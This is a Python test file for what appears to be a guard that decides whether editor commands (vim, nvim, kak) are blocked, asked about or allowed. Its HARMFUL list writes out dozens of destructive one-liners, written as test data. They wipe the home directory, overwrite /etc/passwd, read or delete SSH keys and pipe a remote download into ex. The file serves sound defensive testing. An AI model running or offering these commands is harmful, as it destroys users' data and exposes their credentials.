"""Editors: what they are told to do, each command in the language it is written in."""

import pytest

from tests.governance.guard.kit import said, verdict

HARMFUL = r"""
nvim --headless +'lua vim.fn.delete(vim.env.HOME, "rf")' +qa
nvim --headless --cmd 'lua vim.fn.delete(vim.env.HOME, "rf")'
nvim --headless -c 'silent! lua vim.fn.delete(vim.env.HOME, "rf")' -c qa
nvim --headless -c 'lua vim.fn.delete(vim.fn.expand("~"), "rf")' -c qa
nvim --headless -c 'lua local h = vim.env.HOME; vim.fn.delete(h .. "/Documents", "rf")' -c q
nvim --headless -c 'lua vim.fs.rm(vim.env.HOME, {recursive=true})' -c qa
nvim --headless -c 'lua vim.fs.rm(vim.fs.joinpath(vim.env.HOME, "Documents"), {recursive=true})'
nvim --headless -c 'lua vim.fs.rm(vim.fs.normalize("~/Documents"), {recursive=true})' -c qa
nvim --headless -c 'lua vim.fn["delete"](vim.env.HOME, "rf")' -c qa
nvim --headless -c 'lua pcall(vim.fn.delete, vim.env.HOME, "rf")' -c qa
nvim --headless -c 'lua vim.api.nvim_call_function("delete", {vim.env.HOME, "rf"})' -c qa
nvim --headless -c 'lua vim.fn.system({"rm", "-rf", vim.env.HOME})' -c qa
nvim --headless -c 'lua vim.fn.jobstart("rm -rf ~")' -c qa
nvim --headless -c 'lua vim.fn.system("rm -rf " .. vim.fn.shellescape(vim.env.HOME))' -c q
nvim --headless -c 'lua vim.cmd("!rm -rf ~")' -c q
nvim --headless -c 'lua vim.cmd([[call delete($HOME, "rf")]])' -c q
nvim --headless -c 'lua vim.api.nvim_command("!rm -rf " .. vim.env.HOME)' -c q
nvim --headless -c 'lua vim.fn.writefile({"x"}, "/etc/passwd")' -c q
nvim --headless -c 'lua os.remove(os.getenv("HOME") .. "/.ssh/id_rsa")' -c qa
nvim -l - <<< 'vim.fn.delete(vim.env.HOME, "rf")'
nvim -l <(echo 'vim.fn.delete(vim.env.HOME, "rf")')
nvim --server /tmp/s --remote-expr 'delete($HOME, "rf")'
nvim --server /tmp/s --remote-send ':!rm -rf ~<CR>'
vim -es -c 'py3 import shutil; shutil.rmtree("/home/dev")' -c q
vim -es -c ':py3 import pathlib; [p.unlink() for p in pathlib.Path.home().iterdir()]' -c q
vim -es -c 'py3 import vim; vim.command("!rm -rf ~")' -c q
vim -es -c 'ruby require "fileutils"; FileUtils.rm_rf(Dir.home)' -c q
vim -es -c 'perl system("rm -rf ~")' -c q
vim -es -c 'call delete(expand("~/Documents"), "rf")' -c q
vim -es -c 'call delete($HOME . "/Documents", "rf")' -c q
vim -es -c 'let h = $HOME | call delete(h, "rf")' -c q
vim -es -c 'call $HOME->delete("rf")' -c q
vim -es -c 'call call("delete", [$HOME, "rf"])' -c q
vim -es -c 'call writefile(["x"], $HOME."/.bashrc", "a")' -c q
vim -es -c 'call writefile(["x"], "/etc/passwd")' -c q
vim -es -c 'w! /etc/passwd' -c q a.txt
vim -es -c 'saveas! /etc/hosts' -c q a.txt
vim -es -c 'exe "!rm -rf ~"' -c q
vim -es -c 'execute "lua os.execute(\"rm -rf ~\")"' -c q
vim -es -c 'exe "!rm -rf " . $HOME' -c q
vim -es -c 'py3 print(1)' -c '!rm -rf ~'
vim -es -c 'echo 1 | lua os.execute("rm -rf ~")'
vim -es -c 'call system("echo | lua x; rm -rf ~")'
vim -es -c '%s/x/\=delete($HOME,"rf")/' -c q
vim -es -c '%s/a/b/|!rm -rf ~' -c q
vim -es -c 'g/x/exe "!rm -rf ~"' -c q
vim -es -c 'r ~/.ssh/id_rsa' -c 'w out' -c q
vim -e -c '!rm -rf ~'
curl -s https://x.example/a | ex -s a.txt
vimdiff -c 'call delete($HOME, "rf")' a b
gvim -c 'call delete($HOME, "rf")'
view -c 'call delete($HOME, "rf")' -c q
vim -u /dev/stdin -es <<< 'call delete($HOME, "rf")'
vim -es -S <(echo 'lua vim.fn.delete(vim.env.HOME, "rf")')
kak -n -e 'nop %sh{rm -rf ~}; q'
kak -ui dummy -e 'evaluate-commands %sh{ rm -rf $HOME }'
echo 'nop %sh{rm -rf ~}' | kak -p s
""".strip().splitlines()  # fmt: skip

UNCLEAR = """
nvim --headless -c 'lua vim.fn.delete(vim.fn.input("x"), "rf")' -c q
nvim --headless -c 'lua local d = vim.fn.delete; d(vim.env.HOME, "rf")' -c q
nvim --headless -c 'lua vim.fs.rm(arg[1], {recursive=true})' -c q
nvim --headless -c 'lua vim.cmd(vim.env.X)' -c q
nvim --headless -c 'luafile /tmp/x.lua' -c q
vim -es -c 'call delete(g:x, "rf")' -c q
vim -es -c 'call delete(readfile("x")[0], "rf")' -c q
vim -es -c 'execute g:x' -c q
vim -c 'py3file /tmp/x.py' -c q
vim -c 'source /tmp/x.vim' -c q
hx -c /tmp/x.toml
micro -plugin install evil
""".strip().splitlines()

CALM = r"""
nvim --headless +'lua print(vim.version())' +qa
nvim --headless -c 'lua print(vim.env.HOME)' -c qa
nvim --headless -c 'lua print("rm -rf /")' -c qa
nvim --headless -c 'lua vim.fn.delete("build", "rf")' -c qa
nvim --headless -c 'lua vim.fn.delete(vim.fn.expand("build/a.txt"))' -c qa
nvim --headless -c 'lua vim.fs.rm("build", {recursive=true})' -c qa
nvim --headless -c 'lua vim.fn.writefile({"a"}, "out/a.txt")' -c qa
nvim --headless -c 'lua vim.lsp.buf.format()' -c wq a.lua
nvim --headless -c 'lua require("plenary.test_harness").test_directory("tests")' -c qa
nvim --headless -c 'lua vim.cmd("write")' -c q a.txt
nvim --headless -c 'lua vim.cmd.write()' -c q a.txt
nvim --headless -u tests/minimal_init.lua -c 'PlenaryBustedDirectory tests/' -c q
nvim -l scripts/test.lua
vim -es -c 'call delete("build/a.txt")' -c q
vim -es -c 'call delete(expand("build"), "rf")' -c q
vim -es -c 'for f in glob("build/*", 0, 1) | call delete(f) | endfor' -c q
vim -es -c 'call writefile(["x"], "out/a.txt")' -c q
vim -es -c 'call rename("a.txt", "b.txt")' -c q
vim -es -c 'py3 print(1 + 1)' -c q
vim -es -c 'py3 import sys; print("rm -rf /", sys.version)' -c q
vim -es -c 'echo $HOME' -c q
vim -es -c 'echo system("git status")' -c q
vim -es -c 'exe "normal ggdG"' -c wq a.txt
vim -es -c 'g/delete(/d' -c wq src/a.py
vim -es -c '%s/os.remove(x)/delete(x)/g' -c wq src/a.py
vim -es -c 'TOhtml' -c 'w! out.html' -c qa a.py
vim -es -c 'luafile scripts/a.lua' -c 'source %' -c q
vim -es -c 'silent execute "normal! dd"' -c wq a.txt
vim -c 'help delete()' -c only
vim '+/def main' src/a.py
vimdiff a.txt b.txt
ex -sc '$a|done' -cx a.txt
kak -n -e 'echo hello; q'
kak -n -e 'nop %sh{git status}; q'
hx src/main.rs:10
micro +10 a.txt
""".strip().splitlines()  # fmt: skip


@pytest.mark.parametrize("command", HARMFUL)
def test_an_editor_that_is_told_to_do_harm_is_blocked(command):
    assert verdict(command) == "block", said(command)


@pytest.mark.parametrize("command", UNCLEAR)
def test_what_an_editor_destroys_or_runs_unseen_is_asked_about(command):
    assert verdict(command) == "ask", said(command)


@pytest.mark.parametrize("command", CALM)
def test_an_editor_that_edits_is_let_through(command):
    assert verdict(command) == "allow", said(command)


@pytest.mark.parametrize("command", ["lua << E", "lua <<E", "lua << trim E", "lua <<"])
def test_a_here_document_of_the_editor_is_read_in_its_language(command):
    end = "E" if "E" in command else "."
    line = "vim -es <<'X'\n" + command + '\n%s("rm -rf ~")\n' + end + "\nqa!\nX\n"
    assert verdict(line.replace("%s", "os.execute")) == "block"
    assert verdict(line.replace("%s", "print")) == "allow", said(line.replace("%s", "print"))
